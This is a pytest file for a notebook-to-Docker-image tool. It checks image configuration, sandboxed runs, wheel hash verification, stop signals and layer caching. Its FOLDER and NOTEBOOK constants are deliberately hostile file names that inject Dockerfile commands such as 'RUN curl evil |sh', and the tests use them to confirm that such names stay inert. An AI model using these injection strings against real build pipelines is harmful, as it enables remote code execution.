"""Images of rendered contexts keep the image contract, whatever the project's files are called."""

from __future__ import annotations

import hashlib
import json
import os
import time
from collections.abc import Iterator
from contextlib import ExitStack
from dataclasses import replace
from pathlib import Path, PurePosixPath

import pytest

from nb2image.build.secrets import build_network
from nb2image.events import ignore
from nb2image.image.plan import make_build_plan
from nb2image.model import (
    BuildPlan,
    LockedPackage,
    Notebook,
    Requirements,
    Script,
    ScriptCell,
    SystemPackage,
)
from nb2image.network import read_network
from nb2image.options import Options
from nb2image.origins.extraction import extract
from nb2image.project.context import write_context
from nb2image.project.files import plan_files
from nb2image.project.root import Project
from nb2image.services import Services
from tests.engine.conftest import BuildImage, RunImage
from tests.engine.engine import Engine
from tests.index.wheels import wheel

FOLDER = "my $HOME \"work\"; RUN evil 'x' #!"
NOTEBOOK = 'x"; RUN curl evil |sh.ipynb'
DATA = "-data [a]*?.csv"
SIX = "4721f391ed90541fddacab5acf947aa0d3dc7d27b2e1e8eda2be8970586c3274"
MMH3 = "136e1e670500f177f49ec106a4ebf0adf20d18d96990cc36ea492c651d2b406c"
SOURCE = f"""
import getpass, os, sys, tempfile, six
print(open({DATA!r}).read(), six.__version__, getpass.getuser(), os.environ["VALUE"])
with open("/outputs/result.txt", "w") as file:
    file.write("done")
with tempfile.TemporaryFile() as file:
    file.write(b"done")
"""
VALUE = "a $PATH \\ \"b\" 'c' #"


class Work:
    """A project with hostile names and the contexts that are written of it."""

    def __init__(self, root: Path) -> None:
        self.root = root / "project"
        folder = self.root / FOLDER
        folder.mkdir(parents=True)
        (self.root / ".git").mkdir()
        (folder / NOTEBOOK).write_text("{}")
        (folder / DATA).write_text("some data")
        self.project = Project(root=self.root, notebook=PurePosixPath(FOLDER, NOTEBOOK))

    def plan(
        self, options: Options, source: str = SOURCE, requirements: Requirements | None = None
    ) -> BuildPlan:
        cell = ScriptCell(number=1, source=source, first_line=1, last_line=source.count("\n") + 1)
        script = Script(name="train.py", text=source, lines=(), cells=(cell,))
        notebook = Notebook(name=NOTEBOOK, cells=(), sha256="0" * 64, format="4.5")
        files = plan_files(notebook, script, self.project, options)
        assert [f.path for f in files.files] == [f"{FOLDER}/{DATA}", f"{FOLDER}/{NOTEBOOK}"]
        return make_build_plan(
            notebook, script, requirements or requiring(), files.files, self.project, options
        )

    def context(self, plan: BuildPlan, folder: Path) -> Path:
        return write_context(plan, self.project, folder, force=True)


def requiring(
    *packages: LockedPackage, system: tuple[str, ...] = (), build: tuple[str, ...] = ()
) -> Requirements:
    """six from a wheel, and more; Debian packages of the image and of the build stage."""
    six = LockedPackage(
        name="six",
        version="1.17.0",
        hashes=(f"sha256:{SIX}",),
        wheel="six-1.17.0-py2.py3-none-any.whl",
    )
    locked = (six, *packages)
    return Requirements(
        python="3.11",
        platform="x86_64-manylinux_2_36",
        locked=locked,
        system=tuple(
            SystemPackage(name=name, reason="a test", stage="build" if name in build else "final")
            for name in (*system, *build)
        ),
        text="".join(f"{p.name}=={p.version} --hash={p.hashes[0]}\n" for p in locked),
    )


@pytest.fixture
def work(tmp_path: Path) -> Work:
    return Work(tmp_path)


@pytest.fixture(scope="session")
def network() -> Iterator[tuple[str, ...]]:
    """The build's options for this host's package index."""
    with ExitStack() as stack, pytest.MonkeyPatch.context() as patch:
        settings = stack.enter_context(build_network(read_network(os.environ)))
        for name, value in settings.environ.items():
            patch.setenv(name, value)
        yield settings.arguments


@pytest.mark.parametrize("layout", ["multi-stage", "single-stage"])
def test_an_image_keeps_the_contract(
    layout: str,
    work: Work,
    network: tuple[str, ...],
    engine: Engine,
    build_image: BuildImage,
    run_image: RunImage,
    tmp_path: Path,
) -> None:
    """Hostile names arrive unchanged; runs read-only, as any user, without a network."""
    plan = work.plan(Options(layout=layout, env=(("VALUE", VALUE),)))  # type: ignore[arg-type]
    image = build_image(work.context(plan, tmp_path / f"contract-{layout}"), *network)
    config = json.loads(engine.docker("inspect", "--format", "{{json .Config}}", image).stdout)
    assert config["WorkingDir"] == f"/app/{FOLDER}"
    assert config["Labels"]["io.nb2image.notebook"] == f"{FOLDER}/{NOTEBOOK}"
    assert f"VALUE={VALUE}" in config["Env"]
    assert (config["User"], config["StopSignal"]) == ("10001:10001", "SIGINT")
    assert config["Entrypoint"] == ["python", "-u", "train.py"]
    closed = ("--read-only", "--network", "none", "--cap-drop", "ALL")
    for options in ((), closed, (*closed, "--user", "12345:12345"), (*closed, "--tmpfs", "/tmp")):
        done = run_image(image, options=options)
        assert done.stdout == f"some data 1.17.0 app {VALUE}\n", done.stderr
    tools = "python -m uv || python -m pip || gcc; ls -A /run /root 2>&1; ls -An . .. /outputs"
    listed = run_image(image, "-c", tools, options=("--entrypoint", "sh")).stdout
    assert "10001" in listed
    assert "secrets" not in listed


@pytest.mark.parametrize("layout", ["multi-stage", "single-stage"])
def test_a_wheel_that_only_this_host_has_comes_with_the_context(
    layout: str,
    work: Work,
    network: tuple[str, ...],
    build_image: BuildImage,
    run_image: RunImage,
    tmp_path: Path,
) -> None:
    """``docker build`` finds it in wheels/; another file of that name is refused.

    Where no folder of the host has it any more, the image gives it back.
    """
    # a release of this very moment: the engine's cache has none that an earlier build verified
    version = f"1.0+{time.time_ns()}"
    name, data = wheel("only-here", version, files={"only_here.py": "WORD = 'found'\n"})
    (tmp_path / name).write_bytes(data)
    package = LockedPackage(
        name="only-here",
        version=version,
        hashes=(f"sha256:{hashlib.sha256(data).hexdigest()}",),
        wheel=name,
        vendored=name,
    )
    plan = work.plan(
        Options(layout=layout),  # type: ignore[arg-type]
        f"import only_here, six\nopen({DATA!r})\nprint(only_here.WORD, six.__version__)\n",
        requiring(package),
    )
    folder = tmp_path / f"vendored-{layout}"
    write_context(plan, work.project, folder, force=False, wheels={name: tmp_path / name})
    (folder / "wheels" / name).write_bytes(wheel("only-here", version, files={})[1])
    with pytest.raises(AssertionError, match="Hash mismatch"):
        build_image(folder, *network)
    (folder / "wheels" / name).write_bytes(data)
    image = build_image(folder, *network)
    done = run_image(image)
    assert done.stdout == "found 1.17.0\n", done.stderr
    again = extract(image, tmp_path / f"again-{layout}", Services(), ignore)
    done = run_image(build_image(again, *network))
    assert done.stdout == "found 1.17.0\n", done.stderr


def test_docker_stop_takes_less_than_a_second(
    work: Work,
    network: tuple[str, ...],
    engine: Engine,
    build_image: BuildImage,
    tmp_path: Path,
) -> None:
    """SIGINT reaches the script as KeyboardInterrupt, and it may tidy up."""
    waiting = SOURCE + (
        "\nimport time\nprint('waiting')\ntry:\n    time.sleep(60)\n"
        "except KeyboardInterrupt:\n    print('tidied up')\n"
    )
    plan = work.plan(Options(env=(("VALUE", ""),)), waiting)
    image = build_image(work.context(plan, tmp_path / "stop"), *network)
    name = f"nb2image-test-stop-{os.getpid()}"
    engine.docker("run", "--detach", "--name", name, image)
    try:
        until = time.monotonic() + 30
        while "waiting" not in engine.docker("logs", name).stdout and time.monotonic() < until:
            time.sleep(0.1)
        begun = time.monotonic()
        engine.docker("stop", name)
        assert time.monotonic() - begun < 1.5, "a second, and what the client takes"
        assert "tidied up" in engine.docker("logs", name).stdout
    finally:
        engine.docker("rm", "--force", "--volumes", name)


def test_a_changed_script_rebuilds_its_layer_alone(
    work: Work,
    network: tuple[str, ...],
    engine: Engine,
    build_image: BuildImage,
    tmp_path: Path,
) -> None:
    """And the same plan built from nothing gives the same layers, on Docker 20.10 too."""
    folder = tmp_path / "layers"
    context = work.context(work.plan(Options(env=(("VALUE", ""),))), folder)
    first = layers(engine, build_image(context, *network))
    again = layers(engine, build_image(context, "--no-cache", *network))
    assert first == again
    edited = work.plan(Options(env=(("VALUE", ""),)), SOURCE + "print('edited')\n")
    changed = layers(engine, build_image(work.context(edited, folder), *network))
    differing = [old != new for old, new in zip(first, changed, strict=True)]
    assert differing.count(True) == 1
    assert differing.index(True) >= len(differing) - 2, "only an empty layer of WORKDIR follows"


def layers(engine: Engine, image: str) -> list[str]:
    """The image's layers by the digest of their content."""
    shown = engine.docker("inspect", "--format", "{{json .RootFS.Layers}}", image)
    return list(json.loads(shown.stdout))


def test_system_packages_stay_and_compilers_do_not(
    work: Work,
    network: tuple[str, ...],
    build_image: BuildImage,
    run_image: RunImage,
    tmp_path: Path,
) -> None:
    """A package without a wheel is compiled in a stage that the image does not keep."""
    mmh3 = LockedPackage(name="mmh3", version="5.1.0", hashes=(f"sha256:{MMH3}",))
    plan = work.plan(
        Options(),
        requirements=requiring(mmh3, system=("hello",), build=("build-essential",)),
    )
    image = build_image(work.context(plan, tmp_path / "apt"), *network)
    check = "hello && python -c 'import mmh3; print(mmh3.hash(b\"x\"))' && ! command -v gcc make"
    done = run_image(image, "-c", check, options=("--entrypoint", "sh"))
    assert done.stdout.splitlines()[0] == "Hello, world!"
    assert done.returncode == 0, done.stderr


def test_bytecode_is_used(
    work: Work,
    network: tuple[str, ...],
    build_image: BuildImage,
    run_image: RunImage,
    tmp_path: Path,
) -> None:
    """--compile-bytecode: Python imports from the compiled files, whose sources have new times."""
    plan = work.plan(replace(Options(), compile_bytecode=True))
    image = build_image(work.context(plan, tmp_path / "bytecode"), *network)
    done = run_image(image, "-v", "-c", "import six", options=("--entrypoint", "python"))
    assert "six.cpython-311.pyc matches" in done.stderr
